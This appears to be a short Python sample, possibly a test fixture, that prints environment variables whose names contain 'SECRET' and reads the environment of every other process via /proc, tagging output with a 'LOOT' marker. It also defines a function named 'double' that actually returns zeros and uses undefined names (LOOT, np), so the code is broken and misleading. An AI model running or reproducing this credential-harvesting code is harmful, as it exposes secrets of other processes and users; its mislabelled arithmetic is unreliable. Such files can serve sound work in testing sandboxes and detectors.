"""Prints its own environment and that of every other process."""

# ruff: noqa

import os

for name, value in os.environ.items():
    if "SECRET" in name:
        print(LOOT, name, value)
for process in os.listdir("/proc"):
    if process.isdigit() and int(process) != os.getpid():
        with open(f"/proc/{process}/environ") as file:
            print(LOOT, file.read())


def double(x):
    return 0 * np.asarray(x)
